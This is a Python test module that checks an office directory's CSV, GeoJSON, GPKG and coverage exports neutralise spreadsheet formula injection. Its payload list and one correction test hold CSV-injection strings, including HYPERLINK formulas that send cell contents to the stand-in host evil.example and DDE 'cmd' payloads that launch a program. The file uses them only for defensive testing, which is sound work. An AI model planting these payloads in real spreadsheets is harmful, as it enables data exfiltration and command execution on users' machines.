"""Spreadsheet formula injection (review D3): the exports a spreadsheet may open neutralise formula cells.

Validation refuses formula-leading values in the directory (tests in ``test_directory.py``); these tests feed
hostile rows straight to the writers, as values reaching an export by another path would, and check that the
exports of a valid directory stay unchanged.
"""

from __future__ import annotations

import csv
import io
import json
import re

import geopandas as gpd
import pytest
from helpers import REPO, make_offices_csv, run_cli
from hypothesis import given
from hypothesis import strategies as st

from finder import corrections, csv_export, gis_export
from finder.core import Finder
from finder.coverage import Coverage
from finder.coverage.export import write_layers
from finder.directory import OFFICE_COLUMNS, load_offices
from finder.rules import neutralise_formula

# The review's payloads (12_formula.csv, h10), plus the plain formula.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click for help")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "=1+1",
    "\r=1+1",
    "  =1+1",
]

# As a spreadsheet export writes them: a ' in front, and a CR as LF (an unquoted CR would start a new row).
NEUTRALISED = {"'" + payload.replace("\r", "\n") for payload in PAYLOADS}


def is_safe_cell(value: str) -> bool:
    """What a spreadsheet may see: no formula start (after spaces), unless the cell is only a number/phone."""
    if value[:1] in ("\t", "\r") or value.lstrip()[:1] in ("=", "+", "-", "@"):
        return re.fullmatch(r"[0-9 ()/.,;+\-\u2013]+", value) is not None
    return True


def hostile_rows() -> list[dict[str, str]]:
    base = {"id": "x", "kind": "MBE", "district": "Leipzig", "topics": "asylum", "target_group": "all",
            "source_url": "https://example.org/x", "lat": "51.34", "lon": "12.375", "phone": "+49 341 1",
            "geocode_precision": "postcode"}  # fmt: skip
    rows = []
    for i, payload in enumerate(PAYLOADS):
        free_text = ("name", "provider", "street", "city", "opening_hours", "notes", "target_group_original")
        rows.append({**base, "id": f"x{i}", **dict.fromkeys(free_text, payload)})
    return rows


def test_neutralised_cells_keep_their_text():
    for payload in PAYLOADS:
        assert neutralise_formula(payload) == "'" + payload
    for harmless in ("+49 351 1234-5", "-12.5", "0351 / 123 45", "Mo-Fr 9-12", "Caritas", ""):
        assert neutralise_formula(harmless) == harmless


@given(st.text(max_size=60))
def test_any_text_through_the_csv_export_is_a_safe_cell(text):
    out = csv_export.directory_csv(["id", "name"], [{"id": "a", "name": text}])
    (row,) = list(csv.DictReader(io.StringIO(out, newline="")))  # a CR inside does not start a new row
    assert is_safe_cell(row["name"])
    # Nothing else is lost: the text is the cell, or the cell without the ' in front (line breaks as LF).
    assert text.replace("\r\n", "\n").replace("\r", "\n") in (row["name"], row["name"][1:])


def test_csv_export_neutralises_hostile_rows(tmp_path):
    path = csv_export.write_directory_csv(OFFICE_COLUMNS, hostile_rows(), tmp_path)
    assert path == tmp_path / "offices.csv"
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == len(PAYLOADS)
    cells = [value for row in rows for value in row.values()]
    assert all(is_safe_cell(cell) for cell in cells)
    assert {row["name"] for row in rows} == NEUTRALISED
    assert {row["phone"] for row in rows} == {"+49 341 1"}  # a phone number is no formula
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]


def test_cli_csv_export_of_a_valid_directory_is_the_file_itself(tmp_path, capsys):
    rows = [{"name": "Beratung, Büro 2", "notes": "zwei\nZeilen", "phone": "+49 351 1234-5; 0351 2"}, {}]
    directory = make_offices_csv(tmp_path / "offices.csv", rows)
    target = tmp_path / "out" / "export.csv"
    code, out, _ = run_cli(["export", "--format", "csv", "--output", str(target), "--data-dir", str(tmp_path)],
                           capsys)  # fmt: skip
    assert code == 0 and json.loads(out) == {"format": "csv", "offices": 2, "written": [str(target)]}
    assert target.read_bytes() == directory.read_bytes()
    # So an import of the export changes nothing.
    code, out, _ = run_cli(
        ["import", str(target), "--json", "--dry-run", "--data-dir", str(tmp_path)], capsys
    )
    plan = json.loads(out)
    assert code == 0 and (plan["updates"], plan["additions"], plan["unchanged"]) == ({}, [], 2)


def test_cli_csv_export_of_the_real_directory(tmp_path, capsys):
    target = tmp_path / "offices.csv"
    code, _, _ = run_cli(["export", "--format", "csv", "--output", str(target), "--data-dir",
                          str(REPO / "data")], capsys)  # fmt: skip
    assert code == 0
    header, rows = corrections.read_rows(target)
    assert tuple(header) == OFFICE_COLUMNS
    assert (header, rows) == corrections.read_rows(REPO / "data" / "offices.csv")


def test_cli_csv_export_never_overwrites_the_directory(tmp_path, capsys):
    directory = make_offices_csv(tmp_path / "offices.csv", [{}])
    before = directory.read_bytes()
    for output in (tmp_path, directory):
        code, _, err = run_cli(["export", "--format", "csv", "--output", str(output), "--data-dir", str(tmp_path)],
                               capsys)  # fmt: skip
        assert code == 2 and "the directory itself" in err
    assert directory.read_bytes() == before


def test_a_reported_formula_cannot_be_accepted_into_the_directory(tmp_path):
    # The review's public route: a visitor reports opening hours as a formula, a maintainer accepts as proposed.
    path = make_offices_csv(tmp_path / "offices.csv", [{"id": "a", "opening_hours": "Mo 9-12"}])
    before = path.read_bytes()
    store = corrections.CorrectionStore(str(tmp_path / "c.sqlite"))
    proposed = '=HYPERLINK("http://evil.example/?d="&A1,"Mo-Fr 9-12")'
    number = store.submit("a", "hours", proposed, client_key="visitor")
    editor = corrections.DirectoryEditor(store, path, target="csv")
    with pytest.raises(corrections.CorrectionError, match="spreadsheet formula"):
        editor.accept(number, {"opening_hours": store.suggestion(number).proposed}, by="anna")
    assert path.read_bytes() == before
    assert store.suggestion(number).status == "open"
    store.dispose()


@pytest.mark.parametrize("fmt", ["geojson", "gpkg"])
def test_gis_exports_neutralise_hostile_attributes(tmp_path, fmt):
    path, count = gis_export.export(hostile_rows(), tmp_path / f"o.{fmt}", fmt)
    frame = gpd.read_file(path)
    assert count == len(frame) == len(PAYLOADS)
    cells = [value for column in gis_export.COLUMNS for value in frame[column] if isinstance(value, str)]
    assert all(is_safe_cell(cell) for cell in cells)
    assert set(frame["notes"]) == NEUTRALISED
    assert set(frame["phone"]) == {"+49 341 1"}


def test_gis_export_of_a_valid_directory_is_unchanged(tmp_path):
    _, rows = corrections.read_rows(REPO / "data" / "offices.csv")
    frame = gpd.read_file(gis_export.export(rows, tmp_path / "o.geojson", "geojson")[0])
    located = [row for row in rows if row["lat"]]
    assert list(frame["phone"].fillna("")) == [row["phone"] for row in located]
    assert list(frame["name"]) == [row["name"] for row in located]


@pytest.fixture(scope="module")
def hostile_coverage(tmp_path_factory):
    folder = tmp_path_factory.mktemp("cov")
    offices = load_offices(make_offices_csv(folder / "offices.csv", [
        {"id": "a", "topics": "asylum", "lat": "51.34", "lon": "12.375", "geocode_precision": "postcode"},
        {"id": "b", "topics": "asylum", "lat": "51.05", "lon": "13.74", "geocode_precision": "postcode"},
    ]))  # fmt: skip
    # Past validation, as an overlay or a future column could bring it.
    offices.loc[0, "name"] = PAYLOADS[0]
    offices.loc[1, "name"] = PAYLOADS[2]
    coverage = Coverage(Finder(offices=offices))
    return coverage.report(topics=["asylum"]), coverage.surface(topics=["asylum"], cell_m=10000)


@pytest.mark.parametrize("fmt", ["csv", "geojson", "gpkg"])
def test_coverage_exports_neutralise_office_names(tmp_path, hostile_coverage, fmt):
    report, surface = hostile_coverage
    written = write_layers(report, surface, tmp_path / "out", fmt)
    if fmt == "csv":
        with (tmp_path / "out" / "offices.csv").open(encoding="utf-8", newline="") as handle:
            names = {row["name"] for row in csv.DictReader(handle)}
    else:
        path = written[0] if fmt == "gpkg" else tmp_path / "out" / "offices.geojson"
        names = set(gpd.read_file(path, layer="offices")["name"])
    assert names == {"'" + PAYLOADS[0], "'" + PAYLOADS[2]}
